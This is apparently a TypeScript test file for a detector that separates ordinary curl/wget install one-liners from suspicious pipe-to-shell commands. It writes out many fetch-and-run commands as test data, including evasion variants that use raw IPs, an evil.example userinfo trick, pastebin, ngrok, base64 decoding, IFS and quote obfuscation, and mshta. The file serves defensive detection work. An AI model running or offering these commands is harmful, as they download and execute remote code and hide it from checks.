import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { occurrences } from '../../../lib/detector/occurrence.ts';
import type { RuleMatch } from '../../../lib/detector/rule.ts';
import { isInstallOneLiner } from '../../../lib/detector/rules/install_one_liner.ts';
import { PIPE_TO_SHELL_RULES } from '../../../lib/detector/rules/pipe_to_shell.ts';

const oneLiner = suite('install one-liners');

function matches(text: string): RuleMatch[] {
  return PIPE_TO_SHELL_RULES.flatMap((rule) => [...occurrences(rule, text)].map(({ match }) => match));
}

oneLiner('are downloads by https from a name into a shell, in plain words', () => {
  for (const text of [
    'curl -fsSL https://x.example/install.sh | sh',
    'RUN curl -sSf https://sh.x.example | sh -s -- -y',
    'curl -fsSL https://get.x.example/ | sudo -E bash -',
    'wget -qO- https://x.example/i.sh | bash',
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.x.example | sh",
    'curl -sfL https://get.x.example | X_VERSION=1.2 sh -s -',
    'curl -LsSf https://x.example/i.py | python3 -',
    'sh -c "$(curl -fsSL https://x.example/install.sh)"',
    '/bin/bash -c "$(curl -fsSL https://raw.x.example/a/HEAD/install.sh)"',
    'bash <(curl -sL https://x.example/i.sh)',
    'irm https://x.example/i.ps1 | iex',
  ]) {
    const found = matches(text);
    assert.ok(found.length > 0, `no rule finds ${text}`);
    for (const match of found) assert.ok(isInstallOneLiner(match), `${text}: ${match.text}`);
  }
});

oneLiner('are not what hides, decodes, comes from anybody or goes on', () => {
  for (const text of [
    'curl http://x.example/i.sh | sh',
    'curl https://192.0.2.1/i.sh | sh',
    'curl https://[2001:db8::1]/i.sh | sh',
    'curl https://x.example:8443/i.sh | sh',
    'curl https://u:p@x.example/i.sh | sh',
    'curl https://x.example@evil.example/i.sh | sh',
    'curl https://bit.ly/abc | sh',
    'curl -sL https://pastebin.com/raw/abc | bash',
    'curl https://a.ngrok.io/i.sh | sh',
    'curl https://xn--80ak6aa92e.com/i.sh | sh',
    'curl x.example/i.sh | sh',
    'curl $URL | sh',
    'curl https://x.example/a | base64 -d | sh',
    "c''url https://x.example/a | sh",
    ['curl', 'https://x.example/a', '|', 'sh'].join('$' + '{IFS}'),
    'curl -k https://x.example/a | sh',
    'curl https://x.example/a https://192.0.2.1/b | sh',
    'cat a; curl https://x.example/a | tee /tmp/x | nohup sh',
    'eval "$(curl -s http://192.0.2.1/a)"',
    'mshta https://x.example/a.hta',
  ]) {
    const found = matches(text);
    assert.ok(found.length > 0, `no rule finds ${text}`);
    assert.not.ok(found.some(isInstallOneLiner), text);
  }
});

oneLiner.run();
